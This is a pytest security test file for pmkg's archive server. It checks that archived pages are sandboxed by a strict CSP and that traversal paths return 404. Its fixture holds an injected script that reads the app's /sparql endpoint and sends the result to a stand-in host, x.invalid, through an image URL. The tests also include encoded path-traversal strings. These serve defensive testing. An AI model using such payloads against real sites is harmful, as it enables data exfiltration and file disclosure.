"""Issue 13: archived copies of other people's pages, served by a real ``pmkg serve`` on loopback.

An archived page is untrusted content served from the app's own origin: left
as it is, its scripts would run with the app's origin, read its pages and
call its endpoints, and its images would tell a tracker who reads it. Each
request below is sent exactly as written:

* ``GET /archive/<uuid>`` of a page with a script, a meta refresh and a
  tracking image answers 200 with ``Content-Security-Policy: sandbox;
  default-src 'none'; ...`` (a unique origin, no script, nothing loaded), no
  meta refresh, ``X-Frame-Options: DENY`` and the capture banner;
* paths that are not a capture id (traversal to the WARC index, a file name,
  an unknown uuid) answer 404, never a file of the store.
"""

from __future__ import annotations

import pytest

from fetch_server import FixtureServer, article_html, page
from kg.fetch.archive import Archive
from kg.fetch.client import Fetcher
from kg.fetch.pages import ingest_urls
from kg.store import Store
from test_sec_web_small import _serve, request

EXPECTED_CSP = ("sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; "
                "form-action 'none'; frame-ancestors 'none'")
HOSTILE = article_html(2).replace(
    "</head>", "<meta http-equiv='Refresh' content='0;url=https://elsewhere.invalid/'>"
               "<script>fetch('/sparql?query=ASK{}').then(r=>r.text()).then(t=>new Image().src='https://x.invalid/?'+t)</script></head>")


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    path = tmp_path_factory.mktemp("sec-archive") / "store"
    Store.create(path).close()
    with FixtureServer() as srv:
        srv.routes["/hostile"] = page(HOSTILE)
        archive = Archive(path)
        with Store(path) as store, Fetcher(delay=0) as fetcher:
            ingest_urls(store, [srv.url("/hostile")], fetcher=fetcher, archive=archive)
        capture = archive.latest(srv.url("/hostile"))
        archive.close()
    process, port = _serve(path)
    yield port, capture
    process.terminate()
    process.wait(timeout=10)


def test_archived_page_is_sandboxed_without_scripts_or_refresh(served):
    port, capture = served
    status, headers, body = request(port, "GET", "/archive/" + capture.record_id.removeprefix("urn:uuid:"))
    assert status == 200
    assert headers["content-security-policy"] == EXPECTED_CSP
    assert headers["x-frame-options"] == "DENY" and headers["x-content-type-options"] == "nosniff"
    assert headers["content-type"] == "text/html; charset=utf-8"
    html = body.decode("utf-8")
    assert 'id="pmkg-archive-banner"' in html and "captured by pmkg on " in html
    assert "Refresh" not in html


@pytest.mark.parametrize("path", ["/archive/..%2Fwarc%2Findex.sqlite", "/archive/index.sqlite",
                                  "/archive/%2e%2e/%2e%2e/pmkg.marker",
                                  "/archive/00000000-0000-4000-8000-000000000000"])
def test_only_capture_ids_are_served(served, path):
    status, _, body = request(served[0], "GET", path, {"Accept": "application/json"})
    assert status == 404
    assert b"SQLite format" not in body
